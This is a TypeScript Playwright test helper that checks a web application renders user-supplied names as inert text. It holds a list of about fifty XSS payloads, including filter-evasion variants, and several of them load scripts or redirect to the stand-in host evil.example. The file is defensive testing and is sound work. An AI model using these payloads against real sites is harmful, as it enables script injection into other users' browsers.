import type { Page } from 'playwright-core';
import * as assert from 'uvu/assert';

// What somebody writes into a name who wants it to run in the browser of whoever reads it. What would become an element has
// the attribute data-x, by which a test finds it.
export const payloads: readonly string[] = [
  '<script data-x>alert(1)</script>',
  '<ScRiPt data-x>alert(1)</ScRiPt>',
  '<script data-x src=//evil.example/x.js></script>',
  '</script><script data-x>alert(1)</script>',
  '</title><script data-x>alert(1)</script>',
  '</textarea><script data-x>alert(1)</script>',
  '</style><script data-x>alert(1)</script>',
  '"><script data-x>alert(1)</script>',
  "'><script data-x>alert(1)</script>",
  '<img data-x src=x onerror=alert(1)>',
  '<img data-x src="x" onerror="alert(1)">',
  '"><img data-x src=x onerror=alert(1)>',
  "'><img data-x src=x onerror=alert(1)>",
  '--><img data-x src=x onerror=alert(1)>',
  ']]><img data-x src=x onerror=alert(1)>',
  '<img data-x src=x onerror=alert`1`>',
  '<img/data-x/src=x/onerror=alert(1)>',
  '<svg data-x onload=alert(1)>',
  '<svg data-x/onload=alert(1)>',
  '<svg data-x><script>alert(1)</script></svg>',
  '<svg data-x><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg data-x><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math data-x href="javascript:alert(1)">x</math>',
  '<iframe data-x src="javascript:alert(1)"></iframe>',
  '<iframe data-x srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data-x data="javascript:alert(1)"></object>',
  '<embed data-x src="javascript:alert(1)">',
  '<body data-x onload=alert(1)>',
  '<details data-x open ontoggle=alert(1)>x</details>',
  '<video data-x><source onerror=alert(1)></video>',
  '<audio data-x src=x onerror=alert(1)>',
  '<input data-x autofocus onfocus=alert(1)>',
  '<select data-x autofocus onfocus=alert(1)>',
  '<marquee data-x onstart=alert(1)>x</marquee>',
  '<a data-x href="javascript:alert(1)">x</a>',
  '<a data-x href="java&#115;cript:alert(1)">x</a>',
  '<form data-x action="javascript:alert(1)"><button>x</button></form>',
  '<button data-x formaction="javascript:alert(1)">x</button>',
  '<base data-x href="//evil.example/">',
  '<meta data-x http-equiv="refresh" content="0;url=//evil.example/">',
  '<link data-x rel=stylesheet href=//evil.example/x.css>',
  '<style data-x>*{background:url(//evil.example/)}</style>',
  '<template data-x><img src=x onerror=alert(1)></template>',
  '<noscript data-x><img src=x onerror=alert(1)></noscript>',
  '&lt;img data-x src=x onerror=alert(1)&gt;',
  '&#60;img data-x src=x onerror=alert(1)&#62;',
  '\u202e<img data-x src=x onerror=alert(1)>',
  'javascript:alert(1)//data-x',
  'data:text/html,<script data-x>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}<b data-x>${alert(1)}</b>',
];

const SCREEN_PX = 400;

/** Fails where a text has become an element. */
export async function requireHarmless(page: Page, where: string): Promise<void> {
  const found = await page.evaluate<string[]>(
    `[...document.querySelectorAll('[data-x], script:not([src]), iframe, object, embed, base, a[href^="javascript"], [srcdoc]')].map(({ outerHTML }) => outerHTML)`,
  );
  assert.equal(found, [], where);
}

/** Fails where a text has become an element in any row of a page's tables, or where a payload stands in none. */
export async function requireAllHarmless(page: Page, where: string): Promise<void> {
  let text = '';
  for (let isWhole = false; !isWhole;) {
    await requireHarmless(page, where);
    text += await page.evaluate<string>('document.body.textContent');
    isWhole = await page.evaluate<boolean>(`(async () => {
      const tables = [...document.querySelectorAll('.table')];
      const before = tables.map((one) => one.scrollTop);
      for (const one of tables) one.scrollTop += ${SCREEN_PX};
      await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
      return tables.every((one, i) => one.scrollTop === before[i]);
    })()`);
  }
  const missing = payloads.filter((one) => !text.includes(one));
  assert.equal(missing, [], `${where} has not`);
}
